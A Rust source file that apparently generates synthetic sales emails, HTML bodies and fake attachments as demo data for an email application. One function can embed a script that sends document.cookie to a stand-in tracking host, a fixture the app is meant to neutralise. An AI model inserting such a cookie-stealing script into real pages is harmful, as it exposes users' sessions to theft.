//! What the demo people write: subjects, bodies, signatures, HTML versions, attachments.

use crate::people::{Locale, Person, COMPANIES};
use crate::rng::Rng;

/// A sales conversation topic: subject template and lines each side may write.
pub(crate) struct Topic {
    pub subject: &'static str,
    pub rep_lines: &'static [&'static str],
    pub customer_lines: &'static [&'static str],
}

pub(crate) const TOPICS: &[Topic] = &[
    Topic {
        subject: "Intro: Acme Analytics <> {company}",
        rep_lines: &[
            "Thanks for taking the time last week. As promised, here is a short overview of how teams like yours use Acme Analytics to get from raw warehouse tables to board-ready dashboards in days rather than months.",
            "Would a 30-minute walkthrough with one of our solutions consultants be useful? I can share a few slots for next week.",
            "I noticed {company} recently expanded into two new regions; consolidating regional reporting is exactly where we tend to help first.",
        ],
        customer_lines: &[
            "Thanks for reaching out. We are currently evaluating a couple of BI vendors, so the timing is good.",
            "Happy to set up a call. Please include our data engineering lead, they will have the most questions.",
            "Can you send over a one-pager we can circulate internally before the call?",
        ],
    },
    Topic {
        subject: "Pricing for {company} analytics rollout",
        rep_lines: &[
            "Attached is the pricing proposal for 120 seats on the Business tier, including the warehouse connectors and SSO.",
            "For a three-year commitment we can hold the per-seat price flat and include premium support at no extra cost.",
            "The quote is valid until the end of the month; after that list prices change with our new fiscal year.",
        ],
        customer_lines: &[
            "Thanks for the proposal. Our finance team is asking whether the per-seat price can come down if we commit to 200 seats.",
            "Could you break out the connector costs separately? Procurement needs line items.",
            "We would need net-60 payment terms; is that something you can accommodate?",
        ],
    },
    Topic {
        subject: "Demo follow-up – {company}",
        rep_lines: &[
            "Great session today. Recording and slides are linked below; the cohort retention example starts at minute 18.",
            "To answer the open question on row-level security: yes, policies can be driven by attributes from your identity provider.",
            "Next step would be a two-week proof of concept on a copy of your sales data. Shall I draft success criteria?",
        ],
        customer_lines: &[
            "The team liked the demo, especially the semantic layer. A few questions came up afterwards about refresh schedules.",
            "How does Acme handle late-arriving data? Our ERP exports land at unpredictable times.",
            "Could we see how alerts work on a metric that crosses a threshold?",
        ],
    },
    Topic {
        subject: "Security questionnaire for {company}",
        rep_lines: &[
            "Please find our completed security questionnaire attached, along with the SOC 2 Type II bridge letter.",
            "Data is encrypted at rest with AES-256 and in transit with TLS 1.3; customer-managed keys are available on the Enterprise tier.",
            "Our DPA covers the standard contractual clauses; I have asked legal to send the signed copy.",
        ],
        customer_lines: &[
            "Our security team needs the questionnaire back before we can move to contract. Deadline is Friday.",
            "Where is customer data hosted? We need EU residency for our German subsidiaries.",
            "Do you support SCIM provisioning? It is a hard requirement from IT.",
        ],
    },
    Topic {
        subject: "POC success criteria",
        rep_lines: &[
            "Here is a draft of the success criteria: dashboards load in under two seconds for 95% of views, finance can self-serve the monthly close pack, and IT signs off on SSO.",
            "I have provisioned the sandbox workspace; invitations should be in your inbox.",
            "Let us book a mid-point check-in for next Wednesday to review progress.",
        ],
        customer_lines: &[
            "The criteria look reasonable. I would add one: the sales ops team must be able to rebuild the pipeline report without help.",
            "We connected the warehouse but the schema sync is stuck at 80%. Any idea?",
            "POC is going well so far. The finance team is already asking for more seats.",
        ],
    },
    Topic {
        subject: "Contract redlines – {company} MSA",
        rep_lines: &[
            "Our legal team accepted most of your redlines. The remaining open point is the liability cap in section 9.",
            "Attached is the updated MSA with changes tracked. Section 12 now reflects your data retention requirements.",
            "If we can get signatures this week, onboarding can start on the first of the month.",
        ],
        customer_lines: &[
            "Legal has a few more comments on the indemnification clause; I will forward them today.",
            "We cannot accept auto-renewal without a 90-day notice period.",
            "The order form looks fine. Who should receive the purchase order?",
        ],
    },
    Topic {
        subject: "Q{quarter} business review",
        rep_lines: &[
            "Ahead of our quarterly review, here are the adoption numbers: weekly active users are up 34% and the finance workspace now has 41 dashboards.",
            "I would like to use part of the session to plan the rollout to the marketing team.",
            "Could you share which metrics leadership cares most about this quarter?",
        ],
        customer_lines: &[
            "Thanks for the numbers. Leadership mostly wants to understand cost per active user.",
            "Can we move the review by a week? Half the team is at our sales kickoff.",
            "We would like to invite our new CFO to the review.",
        ],
    },
    Topic {
        subject: "Seats and licensing for next year",
        rep_lines: &[
            "Based on current usage you are at 112 of 120 seats. Adding a block of 25 now would be prorated.",
            "Viewer licenses are free on your plan, so occasional users do not need a full seat.",
        ],
        customer_lines: &[
            "We are planning headcount for next year and need a quote for 60 additional seats.",
            "Can unused seats be reassigned between departments?",
        ],
    },
    Topic {
        subject: "Data warehouse connector question",
        rep_lines: &[
            "The Snowflake connector supports key-pair authentication; I have sent the setup guide to your data team.",
            "Incremental syncs run every 15 minutes by default and can be tuned per table.",
        ],
        customer_lines: &[
            "We are moving from Redshift to BigQuery next quarter. Will our dashboards survive the migration?",
            "Is there a way to limit which schemas the connector can see?",
        ],
    },
    Topic {
        subject: "Onboarding plan for {company}",
        rep_lines: &[
            "Welcome aboard! Attached is the onboarding plan: kickoff, admin training, two office-hours sessions and a 30-day health check.",
            "Your customer success manager will be Olivia Chen; she will reach out to schedule the kickoff.",
        ],
        customer_lines: &[
            "Looking forward to getting started. Can the admin training be recorded for colleagues in other time zones?",
            "We would like to start with the finance team and add sales operations in month two.",
        ],
    },
    Topic {
        subject: "SSO / SAML setup",
        rep_lines: &[
            "Here are the SAML metadata URL and the attribute mapping we expect: email, firstName, lastName and groups.",
            "Once SSO is live you can enforce it for all users from the admin console.",
        ],
        customer_lines: &[
            "We configured the app in Okta but users get a redirect loop after login.",
            "Can group membership from Azure AD drive workspace permissions?",
        ],
    },
    Topic {
        subject: "Invoice {invoice} from Acme Analytics",
        rep_lines: &[
            "Please find invoice {invoice} attached. Payment terms are net 30 as per the order form.",
            "Our bank details changed last month; the new details are on the invoice. Please do not use the old account.",
        ],
        customer_lines: &[
            "Accounts payable needs the invoice re-issued with our PO number on it.",
            "Payment was sent yesterday; remittance advice attached.",
        ],
    },
    Topic {
        subject: "Case study opportunity",
        rep_lines: &[
            "Your results with the finance close process are impressive. Would {company} be open to a short case study?",
            "We would draft everything and nothing goes out without your approval.",
        ],
        customer_lines: &[
            "Marketing is open to it, but legal needs to review the quotes first.",
            "We can do a case study if the numbers are anonymised.",
        ],
    },
    Topic {
        subject: "Expansion to the {region} team",
        rep_lines: &[
            "Following our call, here is a proposal for rolling Acme Analytics out to the {region} team, reusing the existing data model.",
            "We can run a dedicated training for the {region} team in their time zone.",
        ],
        customer_lines: &[
            "The {region} team saw the finance dashboards and wants the same for their region.",
            "Budget for the {region} rollout is approved for next quarter.",
        ],
    },
];

/// Lines either side may add for variety. Some start with "From " on purpose, which
/// mboxrd must quote as ">From ".
const FILLER: &[&str] = &[
    "Let me know if anything is unclear.",
    "I have copied my colleague who owns this topic on our side.",
    "From our side, nothing blocks the next step.",
    "From what I understand, the budget holder is back next Monday.",
    "Happy to jump on a quick call if that is easier.",
    "Sorry for the slow reply, it has been a busy quarter end.",
    "Looking forward to hearing from you.",
    "I will update the shared notes after our call.",
    ">From the notes of our last call: the open items are pricing and SSO.",
    "Quick reminder that our offices are closed on Friday.",
];

const REGIONS: &[&str] = &["EMEA", "APAC", "LATAM", "Nordics", "DACH", "North America"];

pub(crate) fn subject_for(topic: &Topic, person: &Person, rng: &mut Rng) -> String {
    let company = person.company_name();
    // Some customers start threads in their own language.
    let localized = match person.locale {
        Locale::De if rng.chance(40) => Some(format!("Angebot für {company} – Rückfragen")),
        Locale::Fr if rng.chance(40) => Some(format!("Proposition commerciale – {company}")),
        Locale::Zh if rng.chance(50) => Some("关于数据分析平台的报价".to_string()),
        Locale::Ja if rng.chance(50) => Some("お見積もりのご依頼について".to_string()),
        Locale::Nordic if rng.chance(40) => Some(format!("Spørsmål om lisenser – {company}")),
        _ => None,
    };
    localized.unwrap_or_else(|| fill(topic.subject, company, rng))
}

pub(crate) fn fill(template: &str, company: &str, rng: &mut Rng) -> String {
    template
        .replace("{company}", company)
        .replace("{quarter}", &(1 + rng.below(4)).to_string())
        .replace("{invoice}", &format!("INV-{}", 24_000 + rng.below(6_000)))
        .replace("{region}", rng.pick_copy(REGIONS))
}

fn greeting(to: &Person) -> String {
    match to.locale {
        Locale::De => format!("Hallo {},", to.first),
        Locale::Fr => format!("Bonjour {},", to.first),
        Locale::Zh => format!("{}，您好：", to.name),
        Locale::Ja => format!("{}様", to.name.split(' ').next().unwrap_or(&to.name)),
        Locale::Nordic => format!("Hei {},", to.first),
        Locale::Pt => format!("Olá {},", to.first),
        Locale::Pl => format!("Dzień dobry {},", to.first),
        Locale::En => format!("Hi {},", to.first),
    }
}

fn sign_off(from: &Person) -> &'static str {
    match from.locale {
        Locale::De => "Viele Grüße",
        Locale::Fr => "Cordialement",
        Locale::Zh => "谢谢！",
        Locale::Ja => "よろしくお願いいたします。",
        Locale::Nordic => "Med vennlig hilsen",
        Locale::Pt => "Atenciosamente",
        Locale::Pl => "Pozdrawiam",
        Locale::En => "Best regards,",
    }
}

pub(crate) fn signature(from: &Person) -> String {
    if from.company.is_none() {
        format!(
            "{}\n{} | Acme Analytics\nhttps://acme-analytics.example",
            from.name, from.title
        )
    } else {
        format!("{}\n{}, {}", from.name, from.title, from.company_name())
    }
}

/// A message body: greeting, one or two topic lines, maybe filler, sign-off, signature,
/// and (for replies) the previous message quoted.
pub(crate) fn body(
    rng: &mut Rng,
    from: &Person,
    to: &Person,
    topic: &Topic,
    quote: Option<(&str, &str)>,
) -> String {
    let lines = if from.company.is_none() {
        topic.rep_lines
    } else {
        topic.customer_lines
    };
    let company = to
        .company
        .or(from.company)
        .map_or("your team", |c| COMPANIES[c].name);
    let mut paragraphs = vec![greeting(to)];
    let first = rng.below(lines.len());
    paragraphs.push(fill(lines[first], company, rng));
    if lines.len() > 1 && rng.chance(50) {
        let second = (first + 1 + rng.below(lines.len() - 1)) % lines.len();
        paragraphs.push(fill(lines[second], company, rng));
    }
    if rng.chance(45) {
        paragraphs.push(rng.pick(FILLER).to_string());
    }
    paragraphs.push(format!("{}\n{}", sign_off(from), signature(from)));
    let mut text = paragraphs.join("\n\n");
    if let Some((who_when, previous)) = quote {
        text.push_str(&format!("\n\n{who_when}\n"));
        for line in previous.lines().take(12) {
            if line.is_empty() {
                text.push_str(">\n");
            } else {
                text.push_str(&format!("> {line}\n"));
            }
        }
    }
    text.push('\n');
    text
}

/// The HTML twin of a text body, optionally with a remote tracking pixel and a script
/// (both of which the app must neutralise).
pub(crate) fn html_from_text(text: &str, tracking: Option<&str>, script: bool) -> String {
    let mut html = String::from(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"></head>\n<body style=\"font-family: Arial, sans-serif; font-size: 14px\">\n",
    );
    let mut paragraph: Vec<String> = Vec::new();
    let flush = |paragraph: &mut Vec<String>, html: &mut String| {
        if !paragraph.is_empty() {
            html.push_str(&format!("<p>{}</p>\n", paragraph.join("<br>\n")));
            paragraph.clear();
        }
    };
    let mut in_quote = false;
    for line in text.lines() {
        let quoted = line == ">" || line.starts_with("> ");
        if quoted != in_quote {
            flush(&mut paragraph, &mut html);
            html.push_str(if quoted {
                "<blockquote style=\"border-left: 2px solid #ccc; padding-left: 8px\">\n"
            } else {
                "</blockquote>\n"
            });
            in_quote = quoted;
        }
        let content = if quoted {
            line.trim_start_matches(['>', ' '])
        } else {
            line
        };
        if content.trim().is_empty() {
            flush(&mut paragraph, &mut html);
        } else {
            paragraph.push(escape(content));
        }
    }
    flush(&mut paragraph, &mut html);
    if in_quote {
        html.push_str("</blockquote>\n");
    }
    if let Some(url) = tracking {
        html.push_str(&format!(
            "<img src=\"{url}\" width=\"1\" height=\"1\" alt=\"\" style=\"display:none\">\n"
        ));
    }
    if script {
        html.push_str(
            "<script>fetch('https://collect.adtrack.example/e?u='+encodeURIComponent(document.cookie))</script>\n",
        );
    }
    html.push_str("</body></html>\n");
    html
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A small but structurally plausible PDF.
pub(crate) fn fake_pdf(title: &str, rng: &mut Rng) -> Vec<u8> {
    let mut pdf = format!(
        "%PDF-1.4\n%\u{e2}\u{e3}\u{cf}\u{d3}\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj\n4 0 obj << /Length 44 >> stream\nBT /F1 18 Tf 72 760 Td ({}) Tj ET\nendstream endobj\n",
        title.replace(['(', ')'], "")
    )
    .into_bytes();
    for _ in 0..rng.range(20, 120) {
        pdf.extend_from_slice(format!("% {}\n", rng.hex(60)).as_bytes());
    }
    pdf.extend_from_slice(b"trailer << /Root 1 0 R >>\n%%EOF\n");
    pdf
}

pub(crate) fn fake_csv(rng: &mut Rng) -> Vec<u8> {
    let mut csv = String::from("account,region,stage,amount_usd,close_date\n");
    for i in 0..rng.range(8, 40) {
        csv.push_str(&format!(
            "{},{},{},{},2025-{:02}-{:02}\n",
            COMPANIES[rng.below(COMPANIES.len())].name.replace(',', ""),
            rng.pick(REGIONS),
            rng.pick(&["Discovery", "Proposal", "Negotiation", "Closed Won"]),
            5_000 + 250 * rng.below(400) + i as usize,
            1 + rng.below(12),
            1 + rng.below(28)
        ));
    }
    csv.into_bytes()
}
